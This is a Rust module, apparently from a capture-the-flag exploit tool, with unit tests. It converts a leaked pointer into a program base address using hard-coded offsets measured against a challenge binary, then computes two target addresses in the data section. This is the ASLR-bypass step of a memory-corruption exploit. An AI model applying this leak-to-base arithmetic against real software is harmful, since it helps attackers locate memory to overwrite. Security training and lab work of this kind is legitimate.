use std::fmt;

use crate::{
    cluster::Frame,
    error::{Error, Result},
};

// Measured against the challenge binary, not derived from anything.
pub const LEAK_OFFSET: u64 = 0xc0b;
pub const DATA_OFFSET: u64 = 0x20_3000;
pub const DATA_ADJUST: u64 = 0xd00;
pub const SECOND_DELTA: u64 = 0xfd00;

#[derive(Debug, Clone, Copy, PartialEq)]
pub struct Layout {
    pub leak_offset: u64,
    pub data_offset: u64,
    pub data_adjust: u64,
    pub second_delta: u64,
}

impl Default for Layout {
    fn default() -> Self {
        Layout {
            leak_offset: LEAK_OFFSET,
            data_offset: DATA_OFFSET,
            data_adjust: DATA_ADJUST,
            second_delta: SECOND_DELTA,
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq)]
pub struct Targets {
    pub base: Frame,
    pub first: Frame,
    pub second: Frame,
}

impl Layout {
    pub fn program_base(&self, leak: Frame) -> Result<Frame> {
        leak.to_u64()
            .checked_sub(self.leak_offset)
            .map(Frame::from_u64)
            .ok_or_else(|| {
                Error::Address(format!("leak {} is below {:#x}", leak, self.leak_offset))
            })
    }

    pub fn targets(&self, base: Frame) -> Result<Targets> {
        let first = base
            .to_u64()
            .checked_add(self.data_offset)
            .and_then(|addr| addr.checked_add(self.data_adjust))
            .ok_or_else(|| Error::Address(format!("data page past {}", base)))?;
        let second = first.checked_sub(self.second_delta).ok_or_else(|| {
            Error::Address(format!("{:#x} is below {:#x}", first, self.second_delta))
        })?;
        Ok(Targets {
            base,
            first: Frame::from_u64(first),
            second: Frame::from_u64(second),
        })
    }

    pub fn resolve(&self, leak: Frame) -> Result<Targets> {
        self.targets(self.program_base(leak)?)
    }
}

impl fmt::Display for Targets {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "base {} -> {}, {}", self.base, self.first, self.second)
    }
}

#[cfg(test)]
mod tests {
    use super::Layout;
    use crate::{cluster::Frame, error::Error};

    #[test]
    fn test_layout_program_base() {
        let layout = Layout::default();
        let base = layout
            .program_base(Frame::from_u64(0x0000_5555_5555_5c0b))
            .unwrap();
        assert_eq!(base.to_u64(), 0x0000_5555_5555_5000);
    }

    #[test]
    fn test_layout_targets() {
        let base = 0x0000_5555_5555_5000;
        let targets = Layout::default().targets(Frame::from_u64(base)).unwrap();
        assert_eq!(targets.first.to_u64(), base + 0x20_3d00);
        assert_eq!(targets.second.to_u64(), base + 0x20_3d00 - 0xfd00);
    }

    #[test]
    fn test_layout_leak_underflow() {
        let layout = Layout::default();
        assert!(matches!(
            layout.resolve(Frame::from_u64(0x10)),
            Err(Error::Address(_))
        ));
    }

    #[test]
    fn test_layout_custom_offsets() {
        let layout = Layout {
            leak_offset: 0x10,
            data_offset: 0x1000,
            data_adjust: 0,
            second_delta: 0x100,
        };
        let targets = layout.resolve(Frame::from_u64(0x4010)).unwrap();
        assert_eq!(targets.base.to_u64(), 0x4000);
        assert_eq!(targets.first.to_u64(), 0x5000);
        assert_eq!(targets.second.to_u64(), 0x4f00);
    }
}
